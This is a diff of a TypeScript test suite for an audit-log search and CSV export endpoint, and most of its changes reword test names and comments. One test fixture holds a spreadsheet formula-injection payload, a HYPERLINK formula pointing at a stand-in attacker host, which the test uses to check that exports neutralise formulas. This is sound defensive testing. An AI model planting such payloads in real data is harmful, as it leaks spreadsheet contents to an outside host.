@@ -46,7 +46,7 @@ async function addLines(
 }
 
 describe('a search of the log', () => {
-  test('finds by action, by subject, by who did it, in any case, and nothing else', async () => {
+  test('matches action, subject and actor, ignores case, and finds nothing else', async () => {
     const team = (await org.request('POST', '/teams', { name: 'Platform' })).body
     const isTeamLine = ({ action }: Entry) => action === 'team.created'
 
@@ -58,7 +58,7 @@ describe('a search of the log', () => {
     expect(await search('no such word')).toEqual([])
   })
 
-  test('tells what the service did by itself from what the operator did', async () => {
+  test('distinguishes actions of the service from actions of the operator', async () => {
     await addLines(world, org, 'line.by_worker', 1, '', 'worker:webhooks')
     await addLines(world, org, 'line.by_operator', 1)
     const named = (await search('line.by_')).map(({ action, actorName }) => [action, actorName])
@@ -71,13 +71,13 @@ describe('a search of the log', () => {
     expect((await search('operator')).map(({ action }) => action)).not.toContain('line.by_worker')
   })
 
-  test.each(['%', '_', '\\', "'", '100%'])('takes %j as it is, not as a pattern', async (word) => {
+  test.each(['%', '_', '\\', "'", '100%'])('matches %j literally, not as a pattern', async (word) => {
     const found = await search(word)
 
     expect(found.every((entry) => JSON.stringify(entry).includes(word))).toBe(true)
   })
 
-  test('goes on from a line, without a gap and without a repeat', async () => {
+  test('continues from a line, without gaps or repeats', async () => {
     await addLines(world, org, 'line.paged', 23)
     const pages: Entry[] = []
     for (let page = await search('paged', '&limit=5'); page.length > 0; ) {
@@ -89,7 +89,7 @@ describe('a search of the log', () => {
     expect(pages).toHaveLength(23)
   })
 
-  test('without a word is the whole log', async () => {
+  test('without a word returns the whole log', async () => {
     const { body } = await admin.visitor.call('GET', '/audit-log/search?search=')
 
     expect(body.map(({ id }: Entry) => id)).toEqual(
@@ -98,7 +98,7 @@ describe('a search of the log', () => {
   })
 
   test.each(['search', 'actor', 'action', 'subject'])(
-    'with a NUL in %s is refused, and not a fault of ours',
+    'with a NUL in %s is refused, without an internal error',
     async (name) => {
       const path = `/audit-log/search?${name}=${encodeURIComponent('a\u0000b')}`
       const refused = expectError(await admin.visitor.call('GET', path), 400, 'invalid_request')
@@ -117,7 +117,7 @@ describe('a search of the log', () => {
 describe('the log as a file', () => {
   const download = (query = '', visitor = admin.visitor) => visitor.call('GET', `/audit-log/export${query}`)
 
-  test('is CSV to be saved, with a line for each line of the log', async () => {
+  test('is a CSV download with one row for each line of the log', async () => {
     const { headers, text } = await download()
     const entries = (await admin.visitor.call('GET', '/audit-log?limit=500')).body as Entry[]
     const [first, ...lines] = text.trimEnd().split('\r\n')
@@ -132,14 +132,14 @@ describe('the log as a file', () => {
     expect(lines.map((line, index) => line.includes(`,${entries[index]?.id},`))).not.toContain(false)
   })
 
-  test('has only what was searched for', async () => {
+  test('contains only what was searched for', async () => {
     await addLines(world, org, 'line.exported', 3)
     const { text } = await download('?search=exported')
 
     expect(text.trimEnd().split('\r\n')).toHaveLength(4)
   })
 
-  test('holds no formula, whatever people and keys are called', async () => {
+  test('contains no formulas, whatever the names of people and keys', async () => {
     const name = '=HYPERLINK("https://evil.example/"&A1)'
     const { key } = await org.createKey(['teams:write'], { name })
     await org.request('POST', '/teams', { name: 'Formula' }, { key })
@@ -149,7 +149,7 @@ describe('the log as a file', () => {
     expect(text).not.toMatch(/(^|,)"?[=+\-@]/m)
   })
 
-  test('has nothing of another organization', async () => {
+  test('contains nothing of another organization', async () => {
     const other = await world.organization()
     const { visitor } = await createPerson(world, other, { role: 'org_admin' })
     await addLines(world, org, 'line.hidden', 1)
@@ -175,15 +175,15 @@ describe('a log that is very long', () => {
     expect(await collect(12), 'nothing is left out').toHaveLength(13)
   })
 
-  test('is not made any further for somebody who does not read it', async () => {
+  test('is no longer produced for a client that does not read it', async () => {
     const world = await useWorld()
     const org = await world.organization()
     const { visitor } = await createPerson(world, org, { role: 'org_admin' })
     await addLines(world, org, 'line.long', 3000, 'x'.repeat(10_000))
     const { hostname, port } = new URL(world.url)
-    // The time limit passes when the test says so: after the file has begun, however long that takes.
+    // The test triggers the time limit itself, after the file has begun.
     const limit = holdTimers(httpLimits.fileHandlerTimeoutMs)
-    // As many as an organization may have at once. What is sent fills the buffers on the way, and then the service waits.
+    // As many exports as an organization may run at once. Each fills the network buffers, then the service waits.
     for (let n = 0; n < 2; n++) {
       const requested = once(world.http.fastify.server, 'request')
       const socket = connect(Number(port), hostname).on('error', () => {})
